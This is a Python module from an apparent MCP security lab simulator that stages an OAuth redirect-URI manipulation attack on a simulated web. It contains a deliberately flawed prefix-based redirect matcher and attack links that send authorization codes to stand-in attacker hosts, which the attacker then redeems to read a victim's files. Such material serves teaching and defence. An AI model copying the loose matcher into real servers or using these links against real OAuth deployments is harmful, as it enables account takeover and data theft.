"""Labs about who receives an authorization code: OAuth flows run on the simulated authorization server.

* ``redirect-uri-manipulation`` — an authorization server that compares redirect URIs loosely sends a
  code for a real client to an address the attacker picked;
* ``confused-deputy`` — an MCP proxy with one static client id at a third-party authorization server
  forwards any client's request, and the user's remembered consent there sends the code to the
  attacker (:mod:`mcp_sim.scenarios.security.deputy`, for the proxy itself);
* ``as-mix-up`` — a client of several authorization servers redeems an honest server's code at the
  attacker's (:mod:`mcp_sim.scenarios.security.mixup`).

This module holds what they share: the user's :class:`Browser` (it follows redirects, keeps cookies
and asks its person on a consent page), a :class:`LoggingSite` (a web server that remembers what it
was sent: where an attacker reads a stolen code), and the MCP Server whose data the attacker is after.
Every OAuth step is a real exchange with :class:`~mcp_sim.security.oauth.OAuthAuthorizationServer` on
the simulated web, recorded in the trace with tokens redacted.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import urlencode, urljoin, urlsplit, urlunsplit

from mcp_sim.capabilities.context import Context
from mcp_sim.roles.server import Server
from mcp_sim.security.identity import User, pick_distinct, pick_name
from mcp_sim.security.lab import Lab, LabContext, LabFacts, Outcome
from mcp_sim.security.oauth import (
    FORM,
    OAuthAuthorizationServer,
    RedirectMatch,
    ScriptedUser,
    exact_redirect_match,
    form_body,
    protected_resource_metadata,
    read_form,
    s256,
)
from mcp_sim.security.oauth_client import OAuthClient
from mcp_sim.security.oauth_web import DocumentSite, SimulatedWeb
from mcp_sim.security.tokens import AuthorizationServer, TokenRejected
from mcp_sim.transports.http import Headers, HttpRequest, HttpResponse

__all__ = ["LABS", "Browser", "LoggingSite", "RedirectMatching", "origin_prefix_match", "private_files"]


def origin(url: str) -> str:
    """``scheme://host[:port]`` of ``url``, without any user information."""
    parts = urlsplit(url)
    port = f":{parts.port}" if parts.port else ""
    return f"{parts.scheme}://{parts.hostname}{port}"


@dataclass
class Browser:
    """A person's browser. It follows redirects, sends each site the cookie that site set, drops the
    ``user@`` part of a URL (the host is what follows the ``@``), and on a consent page asks its person
    (``decide(page)``) and posts the answer."""

    web: SimulatedWeb
    name: str
    decide: Callable[[dict[str, Any]], bool] = lambda page: False
    cookies: dict[str, str] = field(default_factory=dict)

    async def open(self, url: str, *, hops: int = 8) -> HttpResponse:
        method, body = "GET", ""
        response = HttpResponse(404)
        for _ in range(hops):
            site, parts = origin(url), urlsplit(url)
            url = urlunsplit((parts.scheme, site.split("//", 1)[1], parts.path or "/", parts.query, ""))
            headers = {"Cookie": self.cookies[site]} if site in self.cookies else {}
            if body:
                headers["Content-Type"] = FORM
            response = await self.web.fetch(self.name, method, url, headers=headers, body=body)
            cookie = response.headers.get("Set-Cookie")
            if cookie:
                self.cookies[site] = cookie.split(";")[0]
            location = response.headers.get("Location")
            if response.status in (302, 303) and location:
                url, method, body = urljoin(url, location), "GET", ""
                continue
            page = response.json() if response.status == 200 and response.content_type == "application/json" else {}
            consent = page.get("consent") if isinstance(page, dict) else None
            if not isinstance(consent, dict):
                return response
            answer = "yes" if self.decide(consent) else "no"
            url, method, body = urljoin(url, consent["form"]), "POST", form_body({"ticket": consent["ticket"],
                                                                                  "approve": answer})
        return response


@dataclass
class LoggingSite:
    """A web server that answers every request with a plain page and remembers what it was sent —
    including any ``code`` a redirect delivered in the query."""

    participant: str
    received: list[str] = field(default_factory=list)

    def serve(self, request: HttpRequest) -> HttpResponse:
        self.received.append(request.path)
        return HttpResponse(200, Headers({"Content-Type": "text/plain"}), "thanks")

    def codes(self, under: str = "/") -> list[str]:
        """The authorization codes delivered to paths under ``under``."""
        found = [read_form(path.partition("?")[2]).get("code") for path in self.received if path.startswith(under)]
        return [code for code in found if code]


def private_files(ctx: LabContext, owner: User, name: str = "files") -> tuple[Server, list[str]]:
    """The MCP Server the attacker is after: its one tool lists the caller's private files (only the
    owner's token shows them)."""
    rng = ctx.rng
    files = [f"{word}-{rng.randint(2019, 2026)}.pdf" for word in pick_distinct(rng, "server", rng.randint(2, 4))]
    server = Server(name, version="1.0.0", per_caller=True)

    @server.tool(annotations={"readOnlyHint": True})
    def list_files(call: Context) -> str:
        """Your private files."""
        return "\n".join(files) if call.auth is not None and call.auth.subject == owner.subject else "(none)"

    return server, files


async def files_seen(ctx: LabContext, link: str, server: Server, table: AuthorizationServer, token: str | None,
                     audience: str, client_name: str) -> list[str]:
    """Call ``list_files`` on ``server`` with ``token`` (validated for ``audience``): the lines seen."""
    try:
        auth = table.validate(token, audience=audience)
    except TokenRejected:
        return []
    async with ctx.client(link, server, auth=auth, client_name=client_name) as client:
        text = (await client.call_tool("list_files", {}))["content"][0]["text"]
    return [line for line in str(text).splitlines() if line != "(none)"]


async def redeem(web: SimulatedWeb, sender: str, token_endpoint: str, fields: dict[str, str]) -> str | None:
    """POST an ``authorization_code`` grant; the access token, or ``None`` when refused."""
    answer = await web.fetch(sender, "POST", token_endpoint, headers={"Content-Type": FORM}, body=form_body(fields))
    return str(answer.json()["access_token"]) if answer.status == 200 else None


# --------------------------------------------------------------------------------------------------

def origin_prefix_match(asked: str, registered: Any) -> bool:
    """The mistake: any ``redirect_uri`` that *begins with* a registered URI's origin is accepted —
    meant to allow "any page of the client's site", it also accepts ``https://app.example@evil.example/``,
    ``https://app.example.evil.example/`` and pages on the client's host that someone else writes."""
    return any(asked.startswith(origin(uri)) for uri in registered)


@dataclass(frozen=True)
class RedirectMatching:
    """How the authorization server compares a request's ``redirect_uri`` with the registered ones."""

    match: RedirectMatch


REDIRECT = LabFacts(
    layer="authorization",
    summary="An authorization server that matches redirect URIs loosely sends a code to the attacker.",
    title="Redirect URI manipulation",
    attacker="someone who knows a public client's client_id and gets the user to open a link",
    controls=("an authorization link for the real client: its redirect_uri, PKCE challenge and state, and a web "
              "server (or a user page on the client's own host) where the browser lands"),
    goal="an authorization code for the user's account, and the user's private files with the token it buys",
    mistake=("the authorization server accepted any redirect_uri beginning with the registered origin, so a URL "
             "that passes that comparison but leads elsewhere received the code; the attacker had chosen the "
             "PKCE challenge, so PKCE did not help"),
    boundary="exact redirect URI matching at the authorization server",
    fix=("the authorization server compares the redirect_uri with the registered ones character for character "
         "and, on a mismatch, shows an error instead of redirecting anywhere"),
    rule=("OAuth 2.1: authorization servers MUST compare redirect URIs using exact string matching (loopback "
          "ports aside for native clients); MCP's authorization spec requires registered redirect URIs to be "
          "validated exactly."),
    not_covered=("an open redirect or a page the attacker controls at the exact registered URI itself, and a "
                 "user who signs in at a phishing copy of the authorization server"),
    roles=("The authorization server is OAuthAuthorizationServer (its redirect_match is the defence), the "
           "client's own flow is OAuthClient, the user's browser follows the redirects on the simulated web, "
           "and the files are a real Server called by a real Client."),
)


async def redirect_story(ctx: LabContext, defence: RedirectMatching) -> Outcome:
    sim, rng = ctx.sim, ctx.rng
    web = SimulatedWeb(sim)
    victim = User(pick_name(rng, "user"), pick_name(rng, "tenant"))
    page_owner = pick_name(rng, "user").split(".")[0]
    app_host, evil_host = (f"{name}.example" for name in pick_distinct(rng, "server", 2))
    issuer, resource = "https://login.example", "https://files.example/mcp"
    table = AuthorizationServer(issuer, lambda: sim.token(16), sim.now_ms)
    login = OAuthAuthorizationServer(issuer, table, ScriptedUser(victim), resources=(resource,),
                                     scopes_supported=("files:read",), redirect_match=defence.match)
    app = login.preregister("Files app", [f"https://{app_host}/callback"])
    app_site, evil_site = LoggingSite(f"web/{app_host}"), LoggingSite(f"web/{evil_host}")
    prm_url = "https://files.example/.well-known/oauth-protected-resource/mcp"
    for where, site in ((issuer, login), (f"https://{app_host}", app_site), (f"https://{evil_host}", evil_site),
                        (f"https://{app_host}.{evil_host}", evil_site),
                        ("https://files.example", DocumentSite("server/files", {
                            "/.well-known/oauth-protected-resource/mcp":
                                protected_resource_metadata(resource, [issuer], ["files:read"])}))):
        web.add(where, site)
    server, files = private_files(ctx, victim)

    # The legitimate work: the Files app signs the user in with its registered redirect URI.
    oauth = OAuthClient(web, f"client/{app_host}", resource, "Files app", f"https://{app_host}/callback",
                        lambda: sim.token(16), sim.now_ms, preregistered={issuer: app.client_id})
    token = await oauth.authorize({"resource_metadata": prm_url}, "files:read")
    mine = await files_seen(ctx, "files-app", server, table, token, resource, "Files app")

    # The attack: an authorization link for the Files app, with a redirect URI of the attacker's choice
    # and the attacker's own PKCE challenge.
    landing, read_at = {"main": (f"https://{app_host}@{evil_host}/callback", evil_site),
                        "lookalike-host": (f"https://{app_host}.{evil_host}/callback", evil_site),
                        "same-host-page": (f"https://{app_host}/u/{page_owner}/", app_site)}[ctx.variant]
    verifier = sim.token(32)
    query = {"response_type": "code", "client_id": app.client_id, "redirect_uri": landing,
             "code_challenge": s256(verifier), "code_challenge_method": "S256", "resource": resource,
             "scope": "files:read", "state": sim.token(8)}
    link = f"{issuer}/authorize?{urlencode(query)}"
    got: list[str] = []
    with ctx.attack():
        ctx.note("attacker", "user", f"sends a link: {link}", attack=True)
        refused = await Browser(web, "browser (victim)").open(link)
        codes = read_at.codes(urlsplit(landing).path or "/")
        for code in codes:
            stolen = await redeem(web, "attacker", f"{issuer}/token", {
                "grant_type": "authorization_code", "code": code, "redirect_uri": landing,
                "client_id": app.client_id, "code_verifier": verifier, "resource": resource})
            got += await files_seen(ctx, "files-attacker", server, table, stolen, resource, "attacker")
    return Outcome(
        succeeded=bool(got),
        evidence={"redirect_uri": landing, "registered": list(app.redirect_uris), "codes_captured": len(codes),
                  "files_obtained": got, "variant": ctx.variant},
        legitimate=set(mine) == set(files),
        obtained=f"received a code at {landing}, redeemed it with its own PKCE verifier and listed {len(got)} "
                 f"of {victim.subject}'s files",
        stopped_by=f"the authorization server answered {refused.status}: {refused.body}",
    )


LABS: Final = (
    Lab("redirect-uri-manipulation", REDIRECT, redirect_story,
        {"vulnerable": RedirectMatching(origin_prefix_match), "fixed": RedirectMatching(exact_redirect_match)},
        {"lookalike-host": "the redirect URI's host starts with the client's host name and ends in the attacker's",
         "same-host-page": "the redirect URI is a user page on the client's own host that the attacker writes"}),
)
"""The labs of this module (the proxy and mix-up labs come from their own modules)."""
